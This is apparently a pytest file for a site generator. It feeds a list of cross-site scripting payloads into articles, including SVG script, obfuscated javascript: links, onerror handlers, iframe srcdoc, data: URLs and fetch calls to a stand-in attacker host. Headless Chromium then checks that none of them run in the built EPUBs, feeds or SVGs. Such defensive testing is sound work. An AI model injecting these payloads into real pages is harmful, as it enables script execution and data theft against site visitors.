"""Script payloads in the sources run nowhere: every EPUB chapter (opened from file://) and every
feed item's HTML (written into a page) in headless Chromium, links clicked, shows no dialog, makes
no request for anything but its own file and the site's images, and keeps its title."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from tests.attack_support import EVIL, article, build_site
from tests.browser_harness import Chromium, chromium_binary, file_url, page_for

P = f"document.title='pwned';alert(1);fetch('https://{EVIL}/x')"
P_URL = f"javascript:{P}"
NETWORK = ("http:", "https:", "ws:", "wss:", "ftp:", "window.open")  # file:, data:image, x: stay local

SVG_FILE = f"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60" onload="{P}">
  <script>{P}</script>
  <image href="https://{EVIL}/i.png" width="1" height="1"/>
  <a xlink:href="{P_URL}"><rect width="50" height="50" fill="#08f"/></a>
</svg>
""".encode()

#: Payload name -> Markdown body. Each is an article of its own, so a build that refuses one
#: (with a file:line error) still shows the others.
PAYLOADS = {
    "svg-script": f'<svg width="20" height="20"><script>{P}</script><rect width="9" height="9"/></svg>',
    "svg-foreignobject": f'<svg width="20" height="20"><foreignObject width="20" height="20"><script>{P}</script>'
                         f'<img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="{P}"/></foreignObject></svg>',
    "svg-desc": f'<svg width="20" height="20"><desc><script>{P}</script></desc><rect width="9" height="9"/></svg>',
    "math-script": f"<math><mi>x</mi><script>{P}</script><maction actiontype=\"statusline\" xlink:href=\"{P_URL}\"><mi>y</mi></maction></math>",
    "svg-xlink": f'<svg width="80" height="30"><a xlink:href="{P_URL}"><rect width="80" height="30"/></a></svg>',
    "svg-animate": f'<svg width="80" height="30"><a><animate attributeName="href" values="{P_URL}"/>'
                   '<rect width="80" height="30"/></a></svg>',
    "svg-set": f'<svg width="80" height="30"><set attributeName="onmouseover" to="{P}"/>'
               f'<animate attributeName="onbegin" values="{P}" dur="0.1s"/><rect width="80" height="30"/></svg>',
    "svg-onload": f'<svg width="10" height="10" onload="{P}"><rect width="9" height="9"/></svg>',
    "svg-style": f'<svg width="10" height="10"><style>@import url(https://{EVIL}/s.css);</style><rect width="9" height="9"/></svg>',
    "href-tab": f'<a href="java&#x09;script:{P}">tab link</a>',
    "href-lf": f'<a href="java&#x0A;script:{P}">lf link</a>',
    "href-cr": f'<a href="java&#x0D;script:{P}">cr link</a>',
    "href-entity": f'<a href="&#106;avascript:{P}">entity link</a>',
    "md-javascript": "[md link](javascript:alert(1))",
    "onerror": f'<img src="x:" onerror="{P}" alt="pic">',
    "onmouseover": f'<p onmouseover="{P}" onclick="{P}">hover and click me</p>',
    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{P}&lt;/script&gt;"></iframe>',
    "iframe-src": f'<iframe src="{P_URL}"></iframe>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={P_URL}">',
    "data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'
                 '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>',
    "object-embed": f'<object data="{P_URL}"></object><embed src="https://{EVIL}/e.swf">',
    "form": f'<form action="{P_URL}"><button>press</button></form>',
    "base": f'<base href="https://{EVIL}/">',
    "style-attr": f'<p style="background:url(https://{EVIL}/bg.png)">styled</p>',
    "svg-file": "![diagram](diagram.svg)",
    "script-plain": f"<script>{P}</script>",
}


@pytest.fixture(scope="module")
def chromium():
    binary = chromium_binary()
    if binary is None:
        pytest.skip("no `chromium` on PATH: install the Debian package `chromium` for the payload test")
    browser = Chromium(binary)
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory):
    """The payload site built; articles the build refuses with a file:line error are left out
    and the rest built again (the refused ones are returned too)."""
    root = tmp_path_factory.mktemp("payloads")
    articles = {f"2026-01-{n:02d}-{name}.md": article(f"Payload {name}", f"Before.\n\n{body}\n\nAfter.", f"2026-01-{n:02d}")
                for n, (name, body) in enumerate(PAYLOADS.items(), start=1)}
    files = {"diagram.svg": SVG_FILE}
    refused: list[str] = []
    for _ in range(len(articles)):
        built = build_site(root, articles, files, normalize=False)
        assert "Traceback" not in built.output, built.output
        if built.returncode == 0:
            return built, refused
        assert built.returncode == 1, built.output
        named = [n for n in articles if built.diagnostics_for(n) and any(": error: " in d for d in built.diagnostics_for(n))]
        assert named, f"the build failed without naming a source:\n{built.output}"
        for name in named:
            refused.append(name)
            del articles[name]
            (root / "articles" / name).unlink()
    pytest.fail("every payload article was refused")


def _verdict(visit) -> list[str]:
    bad = [f"dialog {d}" for d in visit.dialogs]
    bad += [f"request {r}" for r in visit.requests
            if EVIL in r or (r.startswith(NETWORK) and not r.startswith("https://test.example/"))]
    if visit.title_after and visit.title_after != visit.title_before:
        bad.append(f"title changed to {visit.title_after!r}")
    return bad


def test_most_payload_articles_are_built(payload_site):
    _built, refused = payload_site
    assert len(refused) <= len(PAYLOADS) // 2, f"refused: {refused}"


def test_no_payload_runs_in_epub_chapters(chromium, payload_site, tmp_path: Path):
    built, _ = payload_site
    problems = {}
    visited = 0
    for book in built.epubs():
        folder = tmp_path / book.stem
        with zipfile.ZipFile(book) as z:
            z.extractall(folder)
        for page in sorted(folder.rglob("*.xhtml")):
            text = page.read_bytes()
            if b"Payload" not in text or page.name in {"nav.xhtml", "contents.xhtml"}:
                continue
            visited += 1
            title = etree.fromstring(text).findtext("{http://www.w3.org/1999/xhtml}head/{http://www.w3.org/1999/xhtml}title") or ""
            visit = chromium.visit(file_url(page), title)
            if bad := _verdict(visit):
                problems[page.relative_to(tmp_path).as_posix()] = bad
    assert visited >= len(PAYLOADS) // 2, "the payload chapters were not found"
    assert problems == {}


def test_no_payload_runs_in_feed_html(chromium, payload_site, tmp_path: Path):
    built, _ = payload_site
    seen: set[str] = set()
    problems = {}
    for n, (where, html) in enumerate(sorted(built.feed_html().items())):
        if html in seen or "<" not in html:
            continue
        seen.add(html)
        title = f"feed item {n}"
        page = tmp_path / f"item{n}.html"
        page.write_text(page_for(html, title), encoding="utf-8")
        visit = chromium.visit(file_url(page), title)
        if bad := _verdict(visit):
            problems[where] = bad
    assert seen, "no HTML in any feed"
    assert problems == {}


def test_no_payload_runs_in_published_svg(chromium, payload_site, tmp_path: Path):
    """The SVG image as published under media/ and in the book, opened on its own."""
    built, refused = payload_site
    svgs = [p for p in built.out.rglob("*.svg")]
    for book in built.epubs():
        with zipfile.ZipFile(book) as z:
            for name in z.namelist():
                if name.endswith(".svg"):
                    svgs.append(Path(z.extract(name, tmp_path / book.stem)))
    if not svgs:
        assert any("svg-file" in r for r in refused) or not re.search(
            rb"diagram\.svg", b"".join(p.read_bytes() for p in built.feeds())
        ), "the SVG image is referenced but not published"
        pytest.skip("the SVG image was refused or turned into another format")
    problems = {}
    for svg in svgs:
        if bad := _verdict(chromium.visit(file_url(svg), "")):
            problems[str(svg)] = bad
    assert problems == {}
